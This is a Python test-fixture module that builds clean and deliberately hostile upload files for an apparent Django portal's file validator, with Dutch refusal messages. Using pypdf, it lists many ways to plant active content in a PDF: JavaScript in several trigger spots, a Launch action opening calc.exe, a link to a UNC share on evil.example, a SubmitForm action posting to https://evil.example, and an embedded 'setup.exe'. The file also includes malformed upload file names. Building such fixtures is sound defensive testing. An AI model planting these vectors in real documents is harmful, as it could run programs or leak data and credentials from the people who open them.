"""Files for the upload tests, built in the tests: clean ones of every accepted type, and
hostile ones holding each kind of active content (PDF) or macro and embedded file (Office).

Each hostile PDF is a one-page PDF with one kind of active content added with pypdf's
PdfWriter, so that a refusal can only come from that addition."""

import io
import zipfile
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00;"
WEBP = (
    b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07"
)
TEXT = b"Bronnen voor de bijeenkomst:\n- Hattie, Visible Learning\n- Guskey (2002)\n"
OLE2_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
ZIP_HEADER_ONLY = b"PK\x03\x04" + b"\x00" * 60
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
JAVASCRIPT = "app.alert('PLG');"


def pdf_bytes(change: Callable[[PdfWriter], None] | None = None, *, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{key}"): value for key, value in entries.items()}
    )


def js_action() -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(JAVASCRIPT))


def rectangle() -> ArrayObject:
    return ArrayObject([FloatObject(value) for value in (50, 50, 200, 100)])


def add_annotation(writer: PdfWriter, subtype: str, **entries) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): rectangle(),
        }
        | {NameObject(f"/{key}"): value for key, value in entries.items()}
    )
    writer.add_annotation(page_number=0, annotation=annotation)


def set_open_action(writer: PdfWriter, open_action: DictionaryObject) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(open_action)


def _names_tree_javascript(writer):
    # pypdf files it in the catalog's /Names -> /JavaScript tree, run when the file opens.
    writer.add_open_action(JavaScript(JAVASCRIPT))


def _open_action_javascript(writer):
    set_open_action(writer, js_action())


def _catalog_additional_action_javascript(writer):
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): js_action()})


def _page_additional_action_javascript(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): js_action()})


def _annotation_javascript(writer):
    add_annotation(writer, "/Link", A=js_action())


def _annotation_additional_action_javascript(writer):
    add_annotation(writer, "/Widget", AA=DictionaryObject({NameObject("/E"): js_action()}))


def _outline_item_javascript(writer):
    item = writer.add_outline_item(title="Inleiding", page_number=0).get_object()
    item[NameObject("/A")] = js_action()


def _chained_javascript(writer):
    go_to_first_page = action(
        "/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    )
    go_to_first_page[NameObject("/Next")] = js_action()
    set_open_action(writer, go_to_first_page)


def _javascript_link(writer):
    add_annotation(writer, "/Link", A=action("/URI", URI=TextStringObject(" JavaScript:alert(1)")))


def _unreferenced_javascript(writer):
    # An object no page or catalog refers to: a reader repairing the file may still reach it.
    writer._add_object(js_action())


def _launch_open_action(writer):
    set_open_action(writer, action("/Launch", F=TextStringObject("C:\\Windows\\calc.exe")))


def _remote_go_to(writer):
    add_annotation(
        writer,
        "/Link",
        A=action(
            "/GoToR",
            F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
            D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
        ),
    )


def _embedded_file(writer):
    writer.add_attachment("setup.exe", b"MZ" + b"\x00" * 64)


def _file_attachment_annotation(writer):
    file_spec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("setup.exe"),
        }
    )
    add_annotation(writer, "/FileAttachment", FS=file_spec)


def _embedded_go_to(writer):
    target = DictionaryObject({NameObject("/R"): NameObject("/C")})
    add_annotation(writer, "/Link", A=action("/GoToE", T=target))


def _xfa_form(writer):
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Fields"): ArrayObject(),
                NameObject("/XFA"): ArrayObject(
                    [TextStringObject("template"), TextStringObject("<template/>")]
                ),
            }
        )
    )


def _rich_media_annotation(writer):
    add_annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())


def _screen_annotation(writer):
    add_annotation(writer, "/Screen", A=action("/Rendition", OP=NumberObject(0)))


def _submit_form(writer):
    add_annotation(
        writer, "/Link", A=action("/SubmitForm", F=TextStringObject("https://evil.example"))
    )


def _import_data(writer):
    add_annotation(writer, "/Link", A=action("/ImportData", F=TextStringObject("data.fdf")))


def _rich_media_execute(writer):
    add_annotation(writer, "/Link", A=action("/RichMediaExecute", TA=DictionaryObject()))


JS = "Het bestand bevat JavaScript."
LAUNCH = "Het bestand bevat een startopdracht (Launch)."
OTHER_FILE = "Het bestand bevat een koppeling die een ander bestand opent."
EMBEDDED = "Het bestand bevat een ingebed bestand (bijlage)."
XFA = "Het bestand bevat een XFA-formulier."
MULTIMEDIA = "Het bestand bevat multimedia (video, geluid of 3D)."
FORM_ACTION = "Het bestand bevat een formulieractie die gegevens verstuurt of ophaalt."

# (id, how to add the active content, the reason the refusal starts with)
HOSTILE_PDF_KINDS = [
    ("javascript-names-tree", _names_tree_javascript, JS),
    ("javascript-open-action", _open_action_javascript, JS),
    ("javascript-catalog-additional-action", _catalog_additional_action_javascript, JS),
    ("javascript-page-additional-action", _page_additional_action_javascript, JS),
    ("javascript-annotation-action", _annotation_javascript, JS),
    ("javascript-annotation-additional-action", _annotation_additional_action_javascript, JS),
    ("javascript-outline-item", _outline_item_javascript, JS),
    ("javascript-chained-after-go-to", _chained_javascript, JS),
    ("javascript-link", _javascript_link, JS),
    ("javascript-unreferenced-object", _unreferenced_javascript, JS),
    ("launch-open-action", _launch_open_action, LAUNCH),
    ("go-to-remote-file", _remote_go_to, OTHER_FILE),
    ("embedded-file", _embedded_file, EMBEDDED),
    ("file-attachment-annotation", _file_attachment_annotation, EMBEDDED),
    ("go-to-embedded", _embedded_go_to, EMBEDDED),
    ("xfa-form", _xfa_form, XFA),
    ("rich-media-annotation", _rich_media_annotation, MULTIMEDIA),
    ("screen-annotation-rendition", _screen_annotation, MULTIMEDIA),
    ("rich-media-execute", _rich_media_execute, MULTIMEDIA),
    ("submit-form", _submit_form, FORM_ACTION),
    ("import-data", _import_data, FORM_ACTION),
]


def hostile_pdfs() -> list[tuple[str, bytes, str]]:
    """(id, PDF bytes, reason) for every kind of active content."""
    return [(kind, pdf_bytes(change), reason) for kind, change, reason in HOSTILE_PDF_KINDS]


def hostile_pdf(kind: str) -> bytes:
    [change] = [change for known, change, _reason in HOSTILE_PDF_KINDS if known == kind]
    return pdf_bytes(change)


# Office documents -----------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{content_type}"/>'
    "</Types>"
)
OOXML_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def zip_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=method)
    return buffer.getvalue()


def ooxml_bytes(kind: str = "docx", *, extra=(), content_type: str | None = None) -> bytes:
    part, main = OOXML_MAIN[kind]
    content_type = content_type or f"application/vnd.openxmlformats-officedocument.{main}"
    types = CONTENT_TYPES.format(part=part, content_type=content_type)
    return zip_bytes([("[Content_Types].xml", types.encode()), (part, b"<x/>"), *extra])


def opendocument_bytes(kind: str = "text", *, extra=()) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zip_bytes([("mimetype", mimetype), ("content.xml", b"<x/>"), *extra])


# Raw multipart bodies --------------------------------------------------------------------------

BOUNDARY = "plg-boundary-7MA4YWxkTrZu0gW"
MULTIPART_CONTENT_TYPE = f"multipart/form-data; boundary={BOUNDARY}"


def multipart_body(fields: dict[str, str], files: dict[str, tuple[bytes, bytes]]) -> bytes:
    """A multipart/form-data body as a client may send it: `files` maps a field name to (file
    name as raw bytes, content), so that names no browser would send can be tested."""
    delimiter = f"--{BOUNDARY}\r\n".encode()
    parts = [
        delimiter
        + f'Content-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
        + value.encode()
        + b"\r\n"
        for name, value in fields.items()
    ]
    parts += [
        delimiter
        + f'Content-Disposition: form-data; name="{name}"; filename="'.encode()
        + file_name
        + b'"\r\nContent-Type: application/octet-stream\r\n\r\n'
        + content
        + b"\r\n"
        for name, (file_name, content) in files.items()
    ]
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


# File names Django's parser cannot take, and why (see plgportal/upload_names.py).
LONG_NAME = ("verslag van de bijeenkomst " * 12).encode() + b".pdf"  # 328 characters
UNDECODABLE_NAME = b"brief \xff\xfe directie.pdf"
